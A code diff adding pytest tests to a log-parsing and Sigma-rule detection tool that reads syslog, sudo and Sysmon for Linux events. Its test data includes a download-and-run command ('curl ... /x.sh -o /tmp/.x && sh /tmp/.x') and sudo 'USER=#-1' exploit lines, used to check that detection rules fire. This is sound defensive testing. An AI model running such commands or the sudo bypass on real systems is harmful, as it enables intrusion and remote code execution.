@@ -2,28 +2,36 @@
 
 from __future__ import annotations
 
+import gzip
+import os
 import re
 import time
+import zipfile
 from dataclasses import replace
+from datetime import UTC, datetime
 from typing import TYPE_CHECKING
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+import haidang
 from haidang.events.model import FileReport
 from haidang.events.readers.syslog import FACILITIES, READER, SEVERITIES, parse_line, parse_lines
 from haidang.limits import DEFAULT_LIMITS
 from tests.events.readers.feeding import SAMPLES, feed, head, sample
+from tests.events.readers.firing import fired, take_rules, write_rules
 
 if TYPE_CHECKING:
     from pathlib import Path
 
 SMALL = replace(DEFAULT_LIMITS, batch_events=3)
+MTIME = 1_794_409_200.0
+"""2026-11-11T15:00:00Z: ten o'clock in the evening in Việt Nam."""
 
 
 def test_reads_rfc_3164_without_priority() -> None:
-    seen = feed(READER, sample("syslog", "bsd.log"), limits=SMALL)
+    seen = feed(READER, sample("syslog", "bsd.log"), limits=SMALL, mtime=MTIME)
     assert seen.report.complete
     assert seen.records == list(range(1, 9))
     assert [event["program"] for event in seen.events] == [
@@ -38,6 +46,7 @@ def test_reads_rfc_3164_without_priority() -> None:
     ]
     line = sample("syslog", "bsd.log").decode().splitlines()[3]
     assert seen.events[3] == {
+        "time": "2026-11-11T21:59:03",
         "timestamp": "Nov 11 21:59:03",
         "hostname": "hv-gw01",
         "program": "sshd",
@@ -108,6 +117,127 @@ def test_reads_what_devices_make_of_the_formats(line: str, expected: dict[str, s
     assert fields is not None
     assert expected.items() <= fields.items()
     assert fields["raw"] == line
+
+
+def test_what_sudo_says_of_a_command_is_taken_apart() -> None:
+    fields = parse_line(
+        "Nov  3 04:05:06 h sudo:  lan.tt : TTY=pts/0 ; PWD=/home/lan ; USER=#-1 ; COMMAND=/bin/sh -c a ; b"
+    )
+    assert fields is not None
+    assert {name: fields[name] for name in ("SUDO_USER", "TTY", "PWD", "USER", "COMMAND")} == {
+        "SUDO_USER": "lan.tt",
+        "TTY": "pts/0",
+        "PWD": "/home/lan",
+        "USER": "#-1",
+        "COMMAND": "/bin/sh -c a ; b",
+    }
+    fields = parse_line(
+        "Nov  3 04:05:06 h sudo: lan : user NOT in sudoers ; TTY=pts/0 ; USER=root ; COMMAND=/bin/ls"
+    )
+    assert fields is not None
+    assert (fields["reason"], fields["USER"]) == ("user NOT in sudoers", "root")
+    fields = parse_line("Nov  3 04:05:06 h sudo: pam_unix(sudo:session): session opened for user root")
+    assert fields is not None
+    assert "SUDO_USER" not in fields
+
+
+def test_an_event_of_sysmon_for_linux_is_that_event() -> None:
+    seen = feed(READER, sample("syslog", "sysmon.log"), mtime=MTIME)
+    assert list(zip(seen.records, seen.origins, strict=True)) == [
+        (2, "windows"),
+        (3, "windows"),
+        (5, "windows"),
+        (1, "syslog"),
+        (4, "syslog"),
+        (6, "syslog"),
+    ]
+    first = seen.events[0]
+    assert (first["Channel"], first["EventID"]) == ("Linux-Sysmon/Operational", "1")
+    assert first["Image"] == "/usr/bin/curl"
+    assert first["CommandLine"] == "curl -s http://203.0.113.77/x.sh -o /tmp/.x && sh /tmp/.x"
+    # The line that syslog cut off stays what it is, and is noted.
+    assert seen.problems == {"broken-line": ("line 6", 1)}
+    assert seen.report.skipped == 0
+    assert seen.events[-1]["message"].startswith("<Event><System>")
+
+
+def test_the_year_is_that_of_the_file_on_disk_also_inside_an_archive(tmp_path: Path) -> None:
+    line = b"Dec 30 23:00:00 h sshd[1]: Accepted password for lan\n"
+    plain = tmp_path / "logs" / "auth.log"
+    plain.parent.mkdir()
+    plain.write_bytes(line)
+    (tmp_path / "logs" / "auth.log.1.gz").write_bytes(gzip.compress(line))
+    with zipfile.ZipFile(tmp_path / "logs" / "a.zip", "w") as archive:
+        archive.writestr(zipfile.ZipInfo("auth.log", (2021, 1, 2, 0, 0, 0)), line)
+    moment = datetime(2023, 1, 5, tzinfo=UTC).timestamp()
+    os.utime(plain, (moment, moment))
+    os.utime(tmp_path / "logs" / "auth.log.1.gz", (moment, moment))
+    rules = write_rules(
+        tmp_path / "rules", sshd=("product: linux, service: sshd", "message|contains: Accepted")
+    )
+    ruleset = haidang.load_rules(rules, cache=False)
+    found = {
+        finding.source.path.rpartition("logs/")[2]: finding.time
+        for finding in haidang.scan(tmp_path / "logs", rules=ruleset)
+    }
+    assert found == {
+        "auth.log": "2022-12-30T23:00:00.000Z",
+        "auth.log.1.gz": "2022-12-30T23:00:00.000Z",
+        "a.zip!auth.log": "2020-12-30T23:00:00.000Z",
+    }
+
+
+def test_rules_on_linux_fire(tmp_path: Path) -> None:
+    rules = write_rules(
+        tmp_path / "rules",
+        process=("product: linux, category: process_creation", "Image|endswith: /curl\nUser: www-data"),
+        connection=("product: linux, category: network_connection", "DestinationIp: 203.0.113.77"),
+        file=("product: linux, category: file_event", "TargetFilename: /tmp/.x"),
+        sudo=("product: linux, service: sudo", "USER: '#-*'"),
+        sshd=("product: linux, service: sshd", "message|contains: Accepted password"),
+        windows=("product: windows, category: process_creation", "Image|endswith: /curl"),
+    )
+    assert fired(tmp_path, sample("syslog", "sysmon.log"), rules) == {
+        ("process", "2"),
+        ("connection", "3"),
+        ("file", "5"),
+    }
+    assert fired(tmp_path, sample("syslog", "bsd.log"), rules) == {("sshd", "4")}
+    line = b"Nov  3 04:05:06 h sudo: lan : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh\n"
+    assert fired(tmp_path, line, rules) == {("sudo", "1")}
+
+
+def test_rules_of_sigmahq_on_linux_fire(corpora: Path, tmp_path: Path) -> None:
+    rules = take_rules(
+        corpora,
+        tmp_path / "rules",
+        "lnx_sudo_exploit_cve_2019_14287.yml",
+        "lnx_auth_exploit_cve_2021_4034_pwnkit_lpe.yml",
+        "lnx_cron_crontab_file_modification.yml",
+        "lnx_guacamole_susp_guacamole.yml",
+        "lnx_clamav_relevant_message.yml",
+        "lnx_vsftpd_susp_error_messages.yml",
+        "lnx_sshd_susp_ssh.yml",
+        "lnx_syslog_susp_named.yml",
+    )
+    data = (
+        b"Nov  3 04:05:06 h sudo: lan : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh\n"
+        b"Nov  3 04:05:06 h pkexec[7]: lan: The value for environment variable XAUTHORITY contains "
+        b"suspicious content [USER=root] [TTY=/dev/pts/0] [CWD=/] [COMMAND=/usr/bin/x]\n"
+        b"Nov  3 04:05:06 h crontab[8]: (lan) REPLACE (lan)\n"
+        b"Nov  3 04:05:06 h guacd[9]: User @1 joined connection (2 users now present)\n"
+        b"Nov  3 04:05:06 h clamd[10]: /srv/x: Trojan.Unix-1 FOUND\n"
+        b"Nov  3 04:05:06 h vsftpd[11]: bug: pid active in ptrace_sandbox_free\n"
+        b"Nov  3 04:05:06 h sshd[12]: ssh_packet_read: Corrupted MAC on input.\n"
+        b"Nov  3 04:05:06 h named[13]: dropping source port zero packet from 203.0.113.9\n"
+    )
+    assert {record for _, record in fired(tmp_path, data, rules)} == {str(n) for n in range(1, 9)}
+
+
+def test_rules_of_sigmahq_fire_on_sysmon_for_linux(corpora: Path, tmp_path: Path) -> None:
+    names = ("proc_creation_lnx_curl_usage.yml", "proc_creation_lnx_webshell_detection.yml")
+    rules = take_rules(corpora, tmp_path / "rules", *names)
+    assert fired(tmp_path, sample("syslog", "sysmon.log"), rules) >= {("Curl Usage on Linux", "2")}
 
 
 def test_a_line_without_host_has_no_host() -> None:
